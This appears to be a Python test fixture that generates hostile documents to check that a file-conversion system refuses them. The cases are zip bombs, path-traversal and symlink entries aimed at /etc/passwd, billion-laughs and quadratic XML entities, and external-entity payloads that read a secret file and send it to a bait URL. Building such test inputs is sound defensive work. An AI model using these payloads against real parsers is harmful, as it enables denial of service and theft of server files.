"""Packages and XML that unpack to far more than they are, or to what is elsewhere."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Iterator
from functools import cache

from tests.integration.documents.bait import ESCAPED, MAIN, Bait, Hostile
from tests.integration.documents.packages import Member, added, archive, changed, plain, read, spaces, symlink

_SHARED_STRINGS = "xl/sharedStrings.xml"


def zips() -> Iterator[Hostile]:
    for extension in ("docx", "xlsx", "odt", "epub"):
        main = MAIN[extension]
        bombs: dict[str, tuple[Callable[[bytes, bytes, str], bytes], bool]] = {
            "one-member": (lambda base, content, main: archive([spaces(main, 300, before=content)], base), True),
            "10-gb-declared": (
                lambda base, content, main: archive([spaces(main, 1, before=content, size=10 * 2**30)], base),
                True,
            ),
            "lying-size": (
                lambda base, content, main: archive([spaces(main, 300, before=content, size=len(content))], base),
                False,
            ),
            "many-members": (
                lambda base, content, main: archive([plain(f"x/{n}", b"") for n in range(20_000)], base),
                True,
            ),
            "overlapping": (
                lambda base, content, main: archive(
                    [
                        spaces(main, 10, before=content),
                        *(Member(name=main, stream=b"", size=10 * 2**20, shares=True) for _ in range(1000)),
                    ],
                    base,
                ),
                True,
            ),
            "almost-too-large": (lambda base, content, main: archive([spaces(main, 240, before=content)], base), False),
            "encrypted": (
                lambda base, content, main: archive([spaces(main, 1, before=content, flags=1)], base),
                True,
            ),
            "truncated": (lambda base, content, main: base[: len(base) * 3 // 4], True),
        }
        for name, (make, is_refused) in bombs.items():
            yield Hostile(
                name=f"zip-{name}-{extension}",
                filename=f"a.{extension}",
                make=lambda bait, make=make, extension=extension, main=main: make(  # type: ignore[misc]  # bound here
                    bait.good(extension), read(bait.good(extension), main), main
                ),
                is_refused=is_refused,
            )
        yield Hostile(
            name=f"zip-nested-{extension}",
            filename=f"a.{extension}",
            make=lambda bait, extension=extension: added(bait.good(extension), ("x/bomb.zip", _nested_zip())),  # type: ignore[misc]
        )
        yield Hostile(
            name=f"zip-climbing-names-{extension}",
            filename=f"a.{extension}",
            make=lambda bait, extension=extension: added(  # type: ignore[misc]
                bait.good(extension),
                (f"../../../../../../tmp/{ESCAPED}", b"x"),
                (f"/tmp/{ESCAPED}", b"x"),
                (symlink("x/link"), b"/etc/passwd"),
            ),
        )
    yield Hostile(name="zip-of-zips", filename="a.docx", make=lambda _: _nested_zip(), is_refused=True)
    yield Hostile(
        name="epub-symlinked-chapter",
        filename="a.epub",
        make=lambda bait: added(_without(bait.good("epub"), "x.xhtml"), (symlink("x.xhtml"), bait.secret.encode())),
        says=".txt",
    )
    yield Hostile(
        name="epub-chapter-outside",
        filename="a.epub",
        make=lambda bait: changed(bait.good("epub"), "c.opf", 'href="x.xhtml"', f'href="../../../..{bait.secret}"'),
    )
    yield Hostile(
        name="epub-one-chapter-10000-times",
        filename="a.epub",
        make=lambda bait: changed(
            changed(bait.good("epub"), "c.opf", '<itemref idref="x"/>', '<itemref idref="x"/>' * 10_000),
            "x.xhtml",
            "A wombat.",
            "A wombat. " * 1000,
        ),
    )


def entities() -> Iterator[Hostile]:
    laughs = "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    bombs: dict[str, tuple[Callable[[Bait], str], str]] = {
        "billion-laughs": (lambda _: f'<!ENTITY a "{"ha" * 500}">{laughs}', "&i;"),
        "quadratic": (lambda _: f'<!ENTITY a "{"x" * 100_000}">', "&a;" * 5000),
        "external": (
            lambda bait: f'<!ENTITY a SYSTEM "file://{bait.secret}"><!ENTITY b SYSTEM "{bait.url}">',
            "&a; &b;",
        ),
        "parameters": (
            lambda bait: (
                f'<!ENTITY % a SYSTEM "file://{bait.secret}"><!ENTITY % b SYSTEM "{bait.url}/x.dtd"> %b; '
                f"<!ENTITY % c \"<!ENTITY &#37; d SYSTEM '{bait.url}/?%a;'>\"> %c; %d;"
            ),
            "",
        ),
    }
    for name, (declare, use) in bombs.items():
        for extension in ("docx", "pptx", "xlsx", "odt", "ods", "epub"):
            yield Hostile(
                name=f"xml-{name}-{extension}",
                filename=f"a.{extension}",
                make=lambda bait, extension=extension, declare=declare, use=use: _with_doctype(  # type: ignore[misc]
                    bait.good(extension), extension, declare(bait), use
                ),
            )
        yield Hostile(
            name=f"xml-{name}-jats",
            filename="a.nxml",
            make=lambda bait, declare=declare, use=use: (  # type: ignore[misc]
                bait.good("nxml").decode().replace("[]", f"[{declare(bait)}]").replace("wombat", f"wombat {use}")
            ).encode(),
        )
        yield Hostile(
            name=f"xml-{name}-svg-in-html",
            filename="a.html",
            make=lambda bait, declare=declare, use=use: (  # type: ignore[misc]
                f"<!DOCTYPE html [{declare(bait)}]><html><body><p>wombat<svg><text>{use}</text></svg></body></html>"
            ).encode(),
        )


def _with_doctype(base: bytes, extension: str, declarations: str, use: str) -> bytes:
    """The good file with declarations in its main part, and a reference behind its "wombat"."""
    names = [MAIN[extension], _SHARED_STRINGS]
    member = next(name for name in names if b"wombat" in _read_or_nothing(base, name))
    text = re.sub(r"^<\?xml[^>]*\?>", "", read(base, member).decode().strip()).replace("wombat", f"wombat {use}")
    return archive([plain(member, f'<?xml version="1.0"?><!DOCTYPE x [{declarations}]>{text}'.encode())], base)


def _read_or_nothing(base: bytes, member: str) -> bytes:
    try:
        return read(base, member)
    except KeyError:
        return b""


def _without(base: bytes, member: str) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(target, "w") as out:
        for name in source.namelist():
            if name != member:
                out.writestr(name, source.read(name))
    return target.getvalue()


@cache
def _nested_zip() -> bytes:
    inner = archive([spaces("x", 250)])
    for depth in range(5):
        inner = archive([plain(f"{depth}-{number}.zip", inner) for number in range(10)])
    return inner
